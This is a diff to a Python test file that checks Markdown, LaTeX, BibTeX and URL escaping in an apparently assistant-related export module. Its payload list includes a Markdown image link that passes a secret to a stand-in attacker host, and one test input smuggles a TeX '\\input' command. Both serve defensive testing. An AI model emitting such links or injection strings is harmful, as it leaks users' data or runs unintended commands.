@@ -8,7 +8,7 @@ from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 from markdown_it.token import Token
 
-from assistant.export.escape import escape_markdown
+from assistant.export.escape import escape_bibtex, escape_latex, escape_markdown, verbatim_url
 
 PAYLOADS = [
     "![x](http://evil.example/?q=secret)",
@@ -104,3 +104,44 @@ def test_control_character_becomes_a_visible_sign(control: str) -> None:
 )
 def test_plain_sentence_stays_readable(plain: str) -> None:
     assert escape_markdown(plain) == plain
+
+
+@pytest.mark.parametrize(
+    ("text", "escaped"),
+    [
+        ("Quantization-Aware", r"Quantization\nobreak\hspace{0pt}-\hspace{0pt}Aware"),
+        ("SmoothQuant", r"Smooth\hspace{0pt}Quant"),
+        ("LLaMA-3.1_8B", r"LLa\hspace{0pt}MA-\hspace{0pt}3.1\_\hspace{0pt}8B"),
+        ("a/b", "a/b"),
+        ("model's", "model's"),
+        ("0123456789abcdef", r"01234567\hspace{0pt}89abcdef"),
+        ("representation", "representation"),
+    ],
+)
+def test_long_word_may_be_broken_at_its_joints(text: str, escaped: str) -> None:
+    assert escape_latex(text, longest=7) == escaped
+
+
+@pytest.mark.parametrize(
+    ("text", "escaped"),
+    [("''", "'{}'"), (",,", ",{},"), ("e\u0301", "é"), ("x\u1fef", r"x\textasciigrave{}")],
+)
+def test_no_two_signs_become_another_one_in_latex(text: str, escaped: str) -> None:
+    assert escape_latex(text) == escaped
+
+
+def test_braces_of_a_field_are_no_braces_to_bibtex() -> None:
+    assert escape_bibtex('{"a}') == r'\textbraceleft{}{"}a\textbraceright{}'
+
+
+@pytest.mark.parametrize(
+    ("text", "verbatim"),
+    [
+        ("https://x.example/a_b?c=1%20&d#e~f", "https://x.example/a_b?c=1%20&d#e~f"),
+        ("10.1002/(SICI)1<1::AID>3.0.CO;2-2", "10.1002/(SICI)1<1::AID>3.0.CO;2-2"),
+        ("100%\\input{x}\n$^", "100%25%5Cinput%7Bx%7D%20%24%5E"),
+        ("é|`\x00", "%C3%A9%7C%60%E2%90%80"),
+    ],
+)
+def test_address_keeps_all_but_what_tex_acts_on(text: str, verbatim: str) -> None:
+    assert verbatim_url(text) == verbatim
